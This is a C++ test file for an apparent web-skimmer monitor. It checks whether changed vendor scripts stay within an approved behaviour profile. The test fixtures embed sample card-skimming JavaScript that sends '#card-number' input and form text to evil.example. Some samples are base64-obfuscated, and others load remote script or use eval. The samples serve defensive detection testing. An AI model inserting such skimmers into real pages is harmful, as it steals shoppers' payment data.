#include <string>
#include <vector>

#include "agent/script/change_judge.h"
#include "agent/script/judge/script_version.h"
#include "agent/script/profile_check.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/agent/script/support/monitor_fixture.h"

namespace skimwatch::testing {
namespace {

using script::Sha256;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// A vendor's chat, whose versions differ in their texts and settings.
std::string Chat(int version, const std::string& more = "") {
  return absl::StrCat(
      "(function () {\n"
      "  var settings = { version: ",
      version, ", greeting: 'Hello ", version,
      "' };\n"
      "  document.querySelector('#chat').addEventListener('click', function () {\n"
      "    fetch('https://chat.example/session?v=",
      version,
      "', { method: 'POST' });\n"
      "  });\n"
      "  window.chat = settings;\n",
      more, "})();\n");
}

// What a script does and the profile that is made of it.
class ProfileTest : public ::testing::Test {
 protected:
  explicit ProfileTest(script::ScriptJudge::Options options = {}) : judge_(std::move(options)) {
    versions_ = *script::VersionStore::Open(tree_.At("versions"), 16 << 20);
  }

  v1::ScriptBehaviour BehaviourOf(const std::string& text) {
    bool rules_in_time = false;
    const auto facts = judge_.FirstPass(text, 1000, &rules_in_time);
    return script::BehaviourOf(judge_.Analyse(text), facts, 1000, rules_in_time);
  }
  v1::ApprovedProfile ProfileOf(const std::string& text) {
    v1::ApprovedProfile profile;
    profile.set_id(7);
    *profile.mutable_facts() = BehaviourOf(text).facts();
    EXPECT_FALSE(profile.facts().empty());
    return profile;
  }
  // Of a script that had `before` and has `now`.
  v1::Severity Judge(const std::string& before, const std::string& now,
                     const v1::ApprovedProfile& profile) {
    change_.Clear();
    change_.set_change(v1::ScriptChange::CHANGE_PROPOSED);
    *change_.mutable_current() = script::VersionOf(before);
    script::JudgeChange(judge_, *versions_, "x.js", before, nullptr, {}, change_);
    change_.Clear();
    change_.set_change(v1::ScriptChange::CHANGE_CHANGED);
    *change_.mutable_previous() = script::VersionOf(before);
    *change_.mutable_current() = script::VersionOf(now);
    return script::JudgeChange(judge_, *versions_, "x.js", now, nullptr,
                               {.profile = &profile, .expired_at = {}}, change_)
        .severity;
  }

  Tree tree_;
  script::ScriptJudge judge_;
  std::unique_ptr<script::VersionStore> versions_;
  v1::ScriptChange change_;
};

TEST_F(ProfileTest, CoversVersionsThatDiffer) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  for (int version = 2; version < 6; ++version) {
    EXPECT_EQ(Judge(Chat(version - 1), Chat(version), profile), v1::SEVERITY_INFO);
    EXPECT_EQ(change_.profile_id(), 7u);
    EXPECT_THAT(change_.diff(), HasSubstr("+"));
  }
  // It may do less.
  EXPECT_EQ(Judge(Chat(5), "window.chat = null;\n", profile), v1::SEVERITY_INFO);
}

TEST_F(ProfileTest, IsWhatCountsAndNotTheVersionBefore) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  EXPECT_EQ(Judge("window.chat = null;\n", Chat(2), profile), v1::SEVERITY_INFO);
  EXPECT_EQ(change_.profile_id(), 7u);
}

TEST_F(ProfileTest, DoesNotCoverANewDestinationAndNamesIt) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  const v1::Severity severity =
      Judge(Chat(1), Chat(2, "  navigator.sendBeacon('https://evil.example/p', 'x');\n"), profile);
  EXPECT_GE(severity, v1::SEVERITY_HIGH);
  EXPECT_EQ(change_.profile_id(), 0u);
  EXPECT_THAT(change_.reasons(), Contains(HasSubstr("evil.example")));
  EXPECT_THAT(change_.reasons(),
              Contains(HasSubstr("not covered by its behaviour profile: not in the profile: ")));
}

TEST_F(ProfileTest, DoesNotCoverASkimmerInAnyOfItsForms) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  const struct {
    const char* what;
    const char* code;
  } kSkimmers[] = {
      {"plain",
       "document.querySelector('#card-number').addEventListener('input', function (e) {"
       " fetch('https://evil.example/?' + e.target.value); });"},
      {"to the vendor's own host",
       "document.querySelector('#card-number').addEventListener('input', function (e) {"
       " fetch('https://chat.example/session?' + e.target.value); });"},
      {"to where nobody can tell",
       "document.querySelectorAll('input').forEach(function (i) { fetch(window.u + i.value); });"},
      {"decoded",
       "new Image().src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv') + document.forms[0].innerText;"},
      {"loaded",
       "var s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
       " document.head.appendChild(s);"},
      {"run as text", "eval(atob('YWxlcnQoMSk='));"},
  };
  for (const auto& skimmer : kSkimmers) {
    EXPECT_GE(Judge(Chat(1), Chat(2, skimmer.code), profile), v1::SEVERITY_MEDIUM) << skimmer.what;
    EXPECT_EQ(change_.profile_id(), 0u) << skimmer.what;
  }
}

TEST_F(ProfileTest, DoesNotCoverWhatIsNotJudgedWhole) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  // Syntax that is lost.
  Judge(Chat(1), Chat(2, "  )]} function ( { +\n"), profile);
  EXPECT_EQ(change_.profile_id(), 0u);
  EXPECT_THAT(change_.behaviour().incomplete(), HasSubstr("no JavaScript"));
  EXPECT_THAT(change_.reasons(), Contains(HasSubstr("not judged whole")));
  EXPECT_THAT(change_.behaviour().facts(), IsEmpty());
  // More facts than are told.
  std::string many;
  for (int i = 0; i < 1500; ++i) absl::StrAppend(&many, "fetch('https://h", i, ".example/');\n");
  Judge(Chat(1), Chat(2, many), profile);
  EXPECT_EQ(change_.profile_id(), 0u);
  EXPECT_THAT(change_.behaviour().incomplete(), HasSubstr("more than 1000 facts"));
}

class SmallProfileTest : public ProfileTest {
 protected:
  SmallProfileTest() : ProfileTest({.parse_bytes_max = 2000}) {}
};

TEST_F(SmallProfileTest, DoesNotCoverWhatIsTooLargeToBeParsed) {
  const v1::ApprovedProfile profile = ProfileOf(Chat(1));
  Judge(Chat(1), Chat(2, std::string(3000, ' ')), profile);
  EXPECT_EQ(change_.profile_id(), 0u);
  EXPECT_THAT(change_.behaviour().incomplete(), HasSubstr("larger than 2000 bytes"));
}

TEST_F(ProfileTest, TakesAVersionApartThatIsKept) {
  v1::ScriptChange change;
  *change.mutable_current() = script::VersionOf(Chat(1));
  script::TakeApart(judge_, *versions_, change);
  EXPECT_EQ(change.change(), v1::ScriptChange::CHANGE_TAKEN_APART);
  EXPECT_EQ(change.behaviour().incomplete(), "its text is not kept");
  versions_->Put(Sha256(Chat(1)), {.facts = {}, .text = Chat(1)});
  script::TakeApart(judge_, *versions_, change);
  EXPECT_EQ(change.behaviour().SerializeAsString(), BehaviourOf(Chat(1)).SerializeAsString());
}

// The same with a web root: what the agent tells, and what it takes for approved.
class ProfileMonitorTest : public MonitorFixture {
 protected:
  void Send(const v1::Policy& policy) { monitor_->SetPolicy(policy); }
};

TEST_F(ProfileMonitorTest, AnswersWhatItIsAskedOnce) {
  root_.Write("js/chat.js", Chat(1));
  Start();
  v1::Policy policy;
  v1::AskedBehaviour& asked = *policy.add_asked_behaviours();
  asked.set_site("shop");
  asked.set_script("js/chat.js");
  asked.set_sha256(Sha256(Chat(1)));
  const size_t before = sink_.size();
  Send(policy);
  ASSERT_TRUE(sink_.WaitForSize(before + 1));
  EXPECT_THAT(sink_.Said(before), ElementsAre("TAKEN_APART js/chat.js"));
  const v1::ScriptChange change = sink_.Last("js/chat.js").change;
  EXPECT_EQ(change.behaviour().incomplete(), "");
  EXPECT_GT(change.behaviour().facts_size(), 0);
  Send(policy);
  AwaitQuiet();
  EXPECT_EQ(sink_.size(), before + 1);
}

TEST_F(ProfileMonitorTest, TakesForApprovedWhatItsProfileCovers) {
  root_.Write("js/chat.js", Chat(1));
  Start();
  v1::Policy policy;
  v1::AskedBehaviour& asked = *policy.add_asked_behaviours();
  asked.set_site("shop");
  asked.set_script("js/chat.js");
  asked.set_sha256(Sha256(Chat(1)));
  size_t before = sink_.size();
  Send(policy);
  ASSERT_TRUE(sink_.WaitForSize(++before));
  policy.Clear();
  v1::ApprovedProfile& profile = *policy.add_script_profiles();
  profile.set_site("shop");
  profile.set_script("js/chat.js");
  profile.set_id(7);
  *profile.mutable_facts() = sink_.Last("js/chat.js").change.behaviour().facts();
  Send(policy);
  root_.Write("js/chat.js", Chat(2));
  ASSERT_TRUE(sink_.WaitForSize(++before));
  EXPECT_EQ(sink_.Last("js/chat.js").change.profile_id(), 7u);
  EXPECT_EQ(sink_.Last("js/chat.js").severity, v1::SEVERITY_INFO);
  // Judged by every agent for itself, whoever accepted it already.
  const std::string evil = Chat(3, "  navigator.sendBeacon('https://evil.example/p', 'x');\n");
  v1::ApprovedScript& accepted = *policy.add_approved_scripts();
  accepted.set_site("shop");
  accepted.set_script("js/chat.js");
  accepted.set_sha256(Sha256(evil));
  accepted.set_by_profile(true);
  Send(policy);
  root_.Write("js/chat.js", evil);
  ASSERT_TRUE(sink_.WaitForSize(++before));
  EXPECT_EQ(sink_.Last("js/chat.js").change.change(), v1::ScriptChange::CHANGE_CHANGED);
  EXPECT_GE(sink_.Last("js/chat.js").severity, v1::SEVERITY_HIGH);
}

TEST_F(ProfileMonitorTest, SaysWhenTheApprovalOfWhatIsServedEnded) {
  root_.Write("js/chat.js", Chat(1));
  Start();
  ApproveAll();
  const size_t before = sink_.size();
  v1::Policy policy;
  v1::ApprovedScript& expired = *policy.add_expired_scripts();
  expired.set_site("shop");
  expired.set_script("js/chat.js");
  expired.set_sha256(Sha256(Chat(1)));
  expired.mutable_expires_at()->set_seconds(1'768'003'200);
  Send(policy);
  ASSERT_TRUE(sink_.WaitForSize(before + 1));
  EXPECT_THAT(sink_.Last("js/chat.js").change.reasons(),
              ElementsAre("approval expired on 2026-01-10T00:00:00Z"));
  EXPECT_EQ(sink_.Last("js/chat.js").severity, v1::SEVERITY_MEDIUM);
  Send(policy);
  AwaitQuiet();
  EXPECT_EQ(sink_.size(), before + 1);
  Await([](const Stats& stats) { return stats.unapproved_scripts == 1; });
}

}  // namespace
}  // namespace skimwatch::testing
